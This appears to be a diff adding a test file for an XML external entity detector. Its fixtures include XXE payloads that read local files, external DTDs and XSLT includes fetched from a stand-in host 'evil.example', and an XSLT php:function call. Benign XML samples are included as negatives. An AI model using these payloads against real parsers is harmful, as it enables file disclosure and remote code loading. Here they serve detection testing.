@@ -1,0 +1,73 @@
+import { expect, test } from 'bun:test'
+import { xmlExternalEntity } from '../../../src/hooks/anomaly/detectors/xml-external-entity.ts'
+
+const score = (text: string, layers = 0): number =>
+  xmlExternalEntity({ text, lower: text.toLowerCase(), layers, place: 'body' })
+
+const attacks: readonly [what: string, ...texts: string[]][] = [
+  [
+    'an entity',
+    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>',
+    '<!ENTITY % b PUBLIC "x" "http://evil.example/">',
+    '<!DOCTYPE a [ <!ENTITY b "c"> ]>',
+    '<!DOCTYPE a [<!ENTITY &#x25; b SYSTEM "x">]>',
+  ],
+  [
+    'a document type from elsewhere',
+    '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">',
+    '<!DOCTYPE a PUBLIC "x" "http://evil.example/a.dtd">',
+  ],
+  [
+    'an inclusion',
+    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///x"/></a>',
+  ],
+  [
+    'a style sheet that reads or calls',
+    '<xsl:value-of select="document(\'/x\')"/>',
+    '<xsl:value-of select="php:function(\'run\')"/>',
+    '<xsl:include href="http://evil.example/a.xsl"/>',
+  ],
+]
+
+const honest: readonly [what: string, ...texts: string[]][] = [
+  [
+    'a document type by its public name, or beside the document',
+    '<!DOCTYPE html><html lang="en"></html>',
+    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
+    '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">',
+  ],
+  [
+    'plain XML',
+    '<?xml version="1.0"?><a b="c">d &amp; e</a>',
+    '<xs:include schemaLocation="a.xsd"/> <include file="a.xml"/> <xsl:value-of select="name"/>',
+  ],
+  ['prose', 'The <!ENTITY> and <!DOCTYPE> declarations', 'Verify my identity <now>'],
+]
+
+test('an escaped entity passes where a page shows code', () => {
+  expect(score('<pre><!ENTITY a SYSTEM "b"></pre>', 1)).toBe(0)
+})
+
+const repeated = [
+  '<!entity ',
+  '<!doctype a ',
+  '<!doctype a [%',
+  '<xi:include ',
+  '<a href=',
+  '<xsl:include ',
+]
+
+for (const [what, ...texts] of attacks)
+  test(`${what} is found`, () => {
+    expect(texts.filter((text) => score(text) < 0.5)).toEqual([])
+  })
+
+for (const [what, ...texts] of honest)
+  test(`${what} passes`, () => {
+    expect(texts.filter((text) => score(text) >= 0.5)).toEqual([])
+  })
+
+for (const piece of repeated)
+  test(`100 KB of ${JSON.stringify(piece)} are judged`, () => {
+    expect(score(piece.repeat(102_400 / piece.length))).toBeWithin(0, 1.01)
+  })
